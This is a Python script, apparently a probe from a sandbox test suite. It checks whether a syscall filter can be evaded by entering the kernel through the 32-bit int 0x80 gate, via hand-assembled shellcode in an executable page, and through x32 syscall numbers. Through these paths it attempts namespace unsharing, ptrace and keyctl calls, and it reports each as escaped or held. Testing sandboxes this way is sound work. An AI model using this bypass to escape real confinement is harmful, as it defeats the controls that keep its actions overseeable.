# Enters the kernel by the 32-bit door (int 0x80) and with x32 numbers, where a filter for 64-bit numbers may not look.
import ctypes
import mmap
import os
import platform
from attack import escaped, finish, held, syscall

if platform.machine() != "x86_64":
    held("not on this processor")
    finish()
code = bytes.fromhex("53"          # push rbx
                     "89f8"        # mov eax, edi    number
                     "89f3"        # mov ebx, esi    first
                     "89d1"        # mov ecx, edx    second
                     "31d2" "31f6" "31ff"  # xor edx, esi, edi
                     "cd80"        # int 0x80
                     "5b" "c3")
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint32, ctypes.c_uint32, ctypes.c_uint32)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
# i386 numbers: unshare 310, ptrace 26, mount 21, keyctl 288, bpf 357, add_key 286, perf_event_open 336, userfaultfd 374, clone 120, io_uring_setup 425, setns 346, init_module 128.
attacks = {"unshare user": (310, 0x10000000, 0), "unshare net": (310, 0x50000000, 0), "ptrace traceme": (26, 0, 0), "keyctl join": (288, 1, 0), "keyctl id": (288, 0, 0xFFFFFFFD)}
for what, arguments in attacks.items():
    pid = os.fork()
    if pid == 0:
        value = call(*arguments)
        os._exit(7 if value >= 0 else 0)
    status = os.waitpid(pid, 0)[1]
    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 7:
        escaped(f"int 0x80: {what}")
    else:
        held(f"int 0x80 {what}: {status}")
for what, number, argument in (("unshare user", 272, 0x10000000), ("keyctl id", 250, 0), ("ptrace traceme", 521, 0), ("getpid", 39, 0)):
    pid = os.fork()
    if pid == 0:
        os._exit(7 if syscall(number | 0x40000000, argument, 0) >= 0 else 0)
    status = os.waitpid(pid, 0)[1]
    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 7:
        escaped(f"x32: {what}")
    else:
        held(f"x32 {what}: {status}")
finish()
